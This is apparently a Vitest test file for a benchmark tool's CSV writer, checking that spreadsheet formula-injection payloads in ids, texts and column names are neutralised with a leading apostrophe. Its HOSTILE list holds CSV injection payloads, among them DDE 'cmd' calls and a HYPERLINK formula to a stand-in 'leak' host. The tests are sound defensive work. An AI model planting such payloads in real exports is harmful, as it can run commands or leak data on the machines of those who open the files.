/**
 * Every CSV persona-bench writes (personas.csv, personagym.csv, leaderboard.csv) goes through csvText: no cell, the
 * header row included, is one a spreadsheet would run, whatever ids and texts a catalog or a crafted results.json
 * holds; numbers stay numbers.
 */
import { describe, expect, it } from "vitest";
import { csvText, neutralizeCsvCell } from "../../src/core/csv.js";
import { buildLeaderboard } from "../../src/leaderboard/build.js";
import { leaderboardCsv } from "../../src/leaderboard/render.js";
import type { Results } from "../../src/results/types.js";
import { mathRenderer } from "../../src/task-kinds/math/render.js";
import type { MathSection } from "../../src/task-kinds/math/section-types.js";
import { personaGymRenderer } from "../../src/task-kinds/personagym/render.js";
import type { PersonaGymSection } from "../../src/task-kinds/personagym/section-types.js";
import { FORMULA_CELL, NUMBER_CELL, parseCsv } from "../helpers/csv.js";
import { mathSection, personaGymSection } from "../helpers/sections.js";
import { fakeResults } from "../leaderboard/results-factory.js";

/** Formula payloads (OWASP's triggers, DDE, the leading characters some spreadsheets skip). */
const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?leak","open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u0000=1",
  "-x",
  "+x",
];

/** Every cell of `csv` is one a spreadsheet shows as it is: text that cannot run, or a plain number. */
function expectNoFormula(csv: string): string[][] {
  const rows = parseCsv(csv);
  expect(rows.length).toBeGreaterThan(1);
  for (const row of rows) {
    expect(row).toHaveLength(rows[0]!.length);
    for (const cell of row) {
      if (!NUMBER_CELL.test(cell)) expect(cell, JSON.stringify(row)).not.toMatch(FORMULA_CELL);
    }
  }
  return rows;
}

describe("neutralizeCsvCell and csvText", () => {
  it.each(HOSTILE)("%j gets a leading apostrophe", (payload) => {
    expect(neutralizeCsvCell(payload)).toBe(`'${payload}`);
  });

  it("leaves plain text and plain numbers alone, signs included", () => {
    for (const text of ["a persona", "-0.05", "+3", "1e-3", "-.5", "qwen2.5:7b", "a = b", "x@y"]) {
      expect(neutralizeCsvCell(text)).toBe(text);
    }
  });

  it("neutralises and quotes every string cell, the header included; numbers stay numbers", () => {
    const csv = csvText(
      ["=header", "n"],
      [
        ["@cell", -0.25],
        ["a;=1+1", null],
        ["", 3],
      ],
    );
    expect(csv).toBe(`"'=header","n"\n"'@cell",-0.25\n"a;=1+1",\n,3\n`);
    expectNoFormula(csv);
  });
});

describe("every CSV we write", () => {
  const results = (): Results => {
    const r = fakeResults({
      model: HOSTILE[0]!,
      control: 0.7,
      personas: { a: 0.6, b: 0.5 },
      personaScore: 4,
      finishedAt: HOSTILE[1],
      benchmarkId: HOSTILE[2],
      runId: HOSTILE[3],
    });
    // Ids, categories and texts as a crafted file or a user's catalog could give them.
    const math = mathSection(r);
    math.personas.forEach((p, i) => {
      p.id = HOSTILE[i % HOSTILE.length]!;
      p.category = HOSTILE[(i + 4) % HOSTILE.length]!;
      p.text = HOSTILE[(i + 7) % HOSTILE.length]!;
    });
    const gym = personaGymSection(r);
    gym.personas = HOSTILE.map((payload, i) => ({
      id: payload,
      text: HOSTILE[(i + 1) % HOSTILE.length]!,
      tasks: { [HOSTILE[(i + 2) % HOSTILE.length]!]: 3 },
      personaScore: 3,
    }));
    // A task id and a metric name become a leaderboard column name.
    const hostileTask = { ...math, id: HOSTILE[4]! } as MathSection;
    hostileTask.headline = hostileTask.headline.map((h) => ({ ...h, metric: `${HOSTILE[5]}${h.metric}` }));
    r.tasks = { [HOSTILE[4]!]: hostileTask, personagym: gym };
    return r;
  };

  it("personas.csv: hostile persona ids, categories and texts", () => {
    const section = mathSection(results(), HOSTILE[4]);
    const [file] = mathRenderer.csv(section);
    const rows = expectNoFormula(file!.content);
    expect(rows.slice(1).map((row) => row[0])).toEqual(section.personas.map((p) => `'${p.id}`));
  });

  it("personagym.csv: hostile persona ids, texts and task names", () => {
    const section: PersonaGymSection = personaGymSection(results());
    const [file] = personaGymRenderer.csv(section);
    const rows = expectNoFormula(file!.content);
    expect(rows).toHaveLength(1 + 2 * HOSTILE.length);
  });

  it("leaderboard.csv: hostile column names (task ids, metric names), finished_at, ids and model names", () => {
    const run = results();
    const board = buildLeaderboard([{ file: "results.json", results: run }], {
      allRuns: false,
      sort: "model",
      skipped: [],
    });
    const rows = expectNoFormula(leaderboardCsv(board));
    const header = rows[0]!;
    expect(header.some((name) => name.startsWith(`'${HOSTILE[4]}`))).toBe(true);
    expect(rows[1]![header.indexOf("finished_at")]).toBe(`'${HOSTILE[1]}`);
    expect(rows[1]![header.indexOf("benchmark_id")]).toBe(`'${HOSTILE[2]}`);
  });
});
